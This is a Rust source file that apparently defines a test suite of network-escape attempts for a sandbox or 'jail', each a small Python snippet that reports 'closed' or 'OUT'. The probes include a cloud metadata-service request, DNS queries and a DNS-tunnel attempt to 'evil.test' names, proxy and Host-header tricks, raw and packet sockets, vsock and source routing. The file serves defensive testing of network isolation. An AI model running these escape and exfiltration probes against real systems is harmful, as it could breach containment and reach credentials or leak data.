//! Attempts to reach another host by a socket.

use super::Control::{NotTried, Succeeds};
use super::{Attempt, attempt};

pub(super) const ATTEMPTS: &[Attempt] = &[
    attempt(
        "TCP to a port without a listener",
        Succeeds,
        "tcp(SERVER, 7000)",
    ),
    attempt(
        "TCP over IPv6",
        Succeeds,
        "tcp(SERVER6, 7000, socket.AF_INET6)",
    ),
    attempt(
        "TLS to a hard-coded address",
        NotTried,
        r#"
text = curl("-k", "https://10.81.0.1/echo")
print("closed" if "no such host for you" in text else "OUT", text)"#,
    ),
    attempt(
        "TLS to a hard-coded address with an allowed name",
        NotTried,
        r#"
text = curl("-k", "--resolve", "a.test:443:10.81.0.1", "https://a.test/echo")
print("closed" if "name_mismatch" in text else "OUT", text)"#,
    ),
    attempt(
        "HTTP to a hard-coded address",
        NotTried,
        r#"
text = curl("http://10.81.0.1/echo")
print("closed" if "no such host for you" in text else "OUT", text)"#,
    ),
    attempt(
        "HTTP with the Host of an allowed name to another",
        NotTried,
        r#"
text = curl("-H", "Host: a.test", "http://b.test/echo")
print("closed" if "name_mismatch" in text else "OUT", text)"#,
    ),
    attempt(
        "HTTP with the Host of another name to an allowed one",
        NotTried,
        r#"
text = curl("-H", "Host: b.test", "http://a.test/echo")
print("closed" if "name_mismatch" in text else "OUT", text)"#,
    ),
    attempt(
        "a proxy that the environment names",
        Succeeds,
        r#"
os.environ["http_proxy"] = "http://10.81.0.1:3128"
text = curl("http://a.test/echo")
print("closed" if "refused" in text or "Could" in text or "Failed" in text else "OUT", text)"#,
    ),
    attempt(
        "an unknown address of the jail's name server",
        NotTried,
        r#"tcp("44.128.77.77", 443)"#,
    ),
    attempt("UDP", Succeeds, "udp(SERVER, 7000)"),
    attempt(
        "UDP over IPv6",
        Succeeds,
        "udp(SERVER6, 7000, socket.AF_INET6)",
    ),
    attempt(
        "QUIC",
        Succeeds,
        "udp(SERVER, 443, data=b'\\xc0' + b'\\0' * 1199)",
    ),
    attempt(
        "UDP to a broadcast and a multicast address",
        Succeeds,
        r#"
errors = []
for address in ("255.255.255.255", "10.81.0.255", "224.0.0.251"):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(1)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        client.sendto(b"x", (address, 7008))
        print("OUT", client.recv(100))
    except OSError as error:
        errors.append(error)
print("closed", errors)"#,
    ),
    attempt(
        "DNS over UDP to another name server",
        Succeeds,
        r#"
response, query = dns("secret.evil.test", 1)
print("OUT" if response == query else "closed: answered in the jail")"#,
    ),
    attempt(
        "DNS over TCP to another name server",
        Succeeds,
        r#"
client = socket.create_connection((SERVER, 53))
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\1a\4test\0" + struct.pack("!2H", 1, 1)
client.sendall(struct.pack("!H", len(query)) + query)
received = client.recv(100)
print("OUT" if received == b"hello" else "closed: answered in the jail")"#,
    ),
    attempt(
        "a DNS tunnel",
        NotTried,
        r#"
for kind in (16, 10, 5, 15, 65):
    response, _ = dns("deadbeef" * 7 + ".evil.test", kind)
    assert struct.unpack("!H", response[6:8])[0] == 0, response
print("closed: no data")"#,
    ),
    attempt("DNS over TLS", Succeeds, "tcp(SERVER, 853)"),
    attempt(
        "DNS over HTTPS to an address",
        NotTried,
        r#"
text = curl("-k", "-H", "Accept: application/dns-message", "https://10.81.0.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")
print("closed" if "no such host for you" in text else "OUT", text)"#,
    ),
    attempt(
        "a metadata service",
        NotTried,
        r#"
text = curl("http://169.254.169.254/latest/meta-data/")
print("closed" if "no such host for you" in text else "OUT", text)"#,
    ),
    attempt(
        "a service on the host's loopback",
        Succeeds,
        r#"tcp("127.0.0.1", 7001)"#,
    ),
    attempt(
        "ICMP echo",
        NotTried,
        r#"
try:
    ping = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
except PermissionError:
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
ping.sendto(b"\x08\0\xf7\xfd\0\1\0\1", (SERVER, 0))
print("OUT")"#,
    ),
    attempt(
        "a raw IP socket",
        Succeeds,
        r#"
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("OUT")"#,
    ),
    attempt(
        "a packet socket",
        Succeeds,
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)\nprint('OUT')",
    ),
    attempt(
        "SCTP",
        NotTried,
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((SERVER, 7000))\nprint('OUT')",
    ),
    attempt(
        "Multipath TCP",
        Succeeds,
        r#"
client = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
client.connect((SERVER, 7000))
print("OUT")"#,
    ),
    attempt(
        "TCP Fast Open",
        Succeeds,
        r#"
client = socket.socket()
client.setblocking(True)
client.sendto(b"x", socket.MSG_FASTOPEN, (SERVER, 7000))
client.recv(1)
print("OUT")"#,
    ),
    attempt(
        "AF_VSOCK to the hypervisor",
        NotTried,
        "socket.socket(40, socket.SOCK_STREAM).connect((2, 7000))\nprint('OUT')",
    ),
    attempt(
        "other socket families",
        NotTried,
        r#"
for family in (5, 9, 21, 30, 31, 32, 35, 37, 41, 42, 43, 44):
    try:
        socket.socket(family, socket.SOCK_SEQPACKET)
        print("OUT", family)
    except OSError as error:
        assert error.errno == errno.EAFNOSUPPORT, (family, error)
print("closed")"#,
    ),
    attempt(
        "sockets of io_uring",
        Succeeds,
        r#"
call(libc.syscall(425, 8, ctypes.create_string_buffer(120)))
print("OUT")"#,
    ),
    attempt(
        "SO_BINDTODEVICE to the host's interface",
        Succeeds,
        r#"
client = socket.socket()
client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lan\0")
client.connect((SERVER, 7000))
print("OUT")"#,
    ),
    attempt(
        "IP_TRANSPARENT and SO_MARK",
        Succeeds,
        r#"
client = socket.socket()
client.setsockopt(socket.SOL_SOCKET, 36, 1)
client.setsockopt(socket.SOL_IP, 19, 1)
print("OUT")"#,
    ),
    attempt(
        "source routing",
        NotTried,
        r#"
client = socket.socket()
client.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("10.81.0.2") + b"\0")
client.connect((SERVER, 7000))
print("OUT")"#,
    ),
];
